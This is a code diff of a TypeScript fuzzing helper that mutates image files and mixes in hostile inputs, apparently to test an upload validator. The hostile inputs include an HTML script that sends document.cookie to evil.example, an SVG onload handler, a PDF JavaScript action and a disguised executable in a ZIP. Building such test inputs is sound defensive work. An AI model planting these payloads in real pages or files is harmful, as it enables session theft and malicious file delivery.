@@ -40,14 +40,22 @@ export function diceOf(seed: number): Dice {
 type Bytes = Uint8Array<ArrayBuffer>
 type Mutation = (file: Bytes, dice: Dice) => Uint8Array
 
-const SAMPLES = [smallJpeg(), telephoneJpeg(), talkativePng(), talkativeWebp()]
+/** Pictures of every kind that is taken, with all that cameras and programs put beside them. */
+export const SAMPLES = [smallJpeg(), telephoneJpeg(), talkativePng(), talkativeWebp()]
 
 const HTML = ascii('<!doctype html><script>fetch("//evil.example/"+document.cookie)</script>')
 const SVG = ascii('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
-const ZIP = join(ascii('PK\u0003\u0004'), new Uint8Array(26), ascii('a.exeMZ'), ascii('PK\u0005\u0006'), new Uint8Array(18))
+const ZIP = join(
+  ascii('PK\u0003\u0004'),
+  new Uint8Array(26),
+  ascii('a.exeMZ'),
+  ascii('PK\u0005\u0006'),
+  new Uint8Array(18),
+)
 const GIF = ascii('GIF89a\u0001\0\u0001\0\0\0\0;')
 const PDF = ascii('%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript>>>>endobj')
-const STRANGERS = [HTML, SVG, ZIP, GIF, PDF]
+/** What must never come back to anybody. */
+export const STRANGERS = [HTML, SVG, ZIP, GIF, PDF]
 /** The marks of UTF-8, UTF-16 in both orders, and none. */
 const MARKS = [[0xef, 0xbb, 0xbf], [0xff, 0xfe], [0xfe, 0xff], []]
 
@@ -63,7 +71,8 @@ function noise(length: number, dice: Dice): Uint8Array {
 /** A picture that declares `side` × `side` pixels. */
 function huge(side: number, dice: Dice): Uint8Array {
   const frame = segment(0xc0, Uint8Array.of(8, side >> 8, side & 255, side >> 8, side & 255, 1, 1, 17, 0))
-  const lossless = (side - 1) | ((side - 1) << 14)
+  const bits = Math.min(side, 16_384) - 1
+  const lossless = bits | (bits << 14)
   const picture = pngChunk('IDAT', noise(20, dice))
   return dice.pick([
     join([0xff, 0xd8], frame, smallJpeg().subarray(2)),
@@ -77,7 +86,14 @@ function moving(dice: Dice): Uint8Array {
   const control = join(be32(1), be32(0))
   const frame = join(be32(0), ascii('frame'), noise(40, dice))
   return dice.pick([
-    join(PNG_START, pngHeader(2, 2), pngChunk('acTL', control), pngChunk('IDAT', [1, 2]), pngChunk('fdAT', frame), pngChunk('IEND', [])),
+    join(
+      PNG_START,
+      pngHeader(2, 2),
+      pngChunk('acTL', control),
+      pngChunk('IDAT', [1, 2]),
+      pngChunk('fdAT', frame),
+      pngChunk('IEND', []),
+    ),
     webpFile(webpExtended(0x02, 4, 4), webpChunk('ANIM', new Uint8Array(6)), webpChunk('ANMF', frame)),
     webpFile(webpExtended(0, 4, 4), webpChunk('ANMF', frame), webpPicture(4, 4)),
   ])
@@ -111,7 +127,16 @@ const MUTATIONS: Record<string, Mutation> = {
   'cut off': (file, dice) => file.subarray(0, dice.below(file.length)),
   'a length changed': (file, dice) => {
     const at = dice.below(Math.max(1, Math.min(200, file.length - 4)))
-    const lengths = [[0], [255], [0, 0], [255, 255], be32(0), be32(0xffffffff), be32(0x7fffffff), [...noise(2, dice)]]
+    const lengths = [
+      [0],
+      [255],
+      [0, 0],
+      [255, 255],
+      be32(0),
+      be32(0xffffffff),
+      be32(0x7fffffff),
+      [...noise(2, dice)],
+    ]
     file.set(dice.pick(lengths), at)
     return file
   },
@@ -133,10 +158,16 @@ const MUTATIONS: Record<string, Mutation> = {
     const other = dice.pick(SAMPLES)
     return join(file.subarray(0, dice.below(file.length)), other.subarray(dice.below(other.length)))
   },
-  'something hung on': (file, dice) => join(file, dice.pick([...STRANGERS, ...SAMPLES]), noise(dice.below(2000), dice)),
+  'something hung on': (file, dice) =>
+    join(file, dice.pick([...STRANGERS, ...SAMPLES]), noise(dice.below(2000), dice)),
   'something before it': (file, dice) => join(dice.pick(MARKS), dice.pick(STRANGERS), file),
   'no picture': (_, dice) =>
-    join(dice.pick(MARKS), dice.pick([[], ascii('<?xml version="1.0"?>')]), dice.pick(STRANGERS), noise(dice.below(9), dice)),
+    join(
+      dice.pick(MARKS),
+      dice.pick([[], ascii('<?xml version="1.0"?>')]),
+      dice.pick(STRANGERS),
+      noise(dice.below(9), dice),
+    ),
   'more pixels than there are': (_, dice) => huge(dice.pick([12_001, 16_384, 50_000, 65_535]), dice),
   'a moving picture': (_, dice) => moving(dice),
   'very many parts': (_, dice) => crowded(dice),
@@ -153,9 +184,14 @@ const MUTATIONS: Record<string, Mutation> = {
 /** What is done to the files. */
 export const MUTATION_NAMES = Object.keys(MUTATIONS)
 
-/** A sample after the named mutation, and one time in four after another one on top. */
-export function mutated(name: string, dice: Dice): Uint8Array<ArrayBuffer> {
+/** What can never be a picture we take. */
+export const HOPELESS: readonly string[] = ['more pixels than there are', 'no picture', 'something before it']
+
+/** A sample after the named mutation, and one time in four a little damage on top. */
+export function mutated(name: string, dice: Dice): Bytes {
   const once = MUTATIONS[name]?.(dice.pick(SAMPLES).slice(), dice) ?? new Uint8Array()
-  if (dice.below(4) > 0 || once.length === 0 || once.length > 100_000) return once.slice()
-  return (MUTATIONS[dice.pick(['bytes changed', 'a bit flipped', 'something hung on'])]?.(once.slice(), dice) ?? once).slice()
+  const isDone = HOPELESS.includes(name) || once.length === 0 || once.length > 100_000
+  const another = dice.pick(['bytes changed', 'a bit flipped', 'something hung on'])
+  const twice = isDone || dice.below(4) > 0 ? once : MUTATIONS[another]?.(once.slice(), dice)
+  return new Uint8Array(twice ?? once)
 }
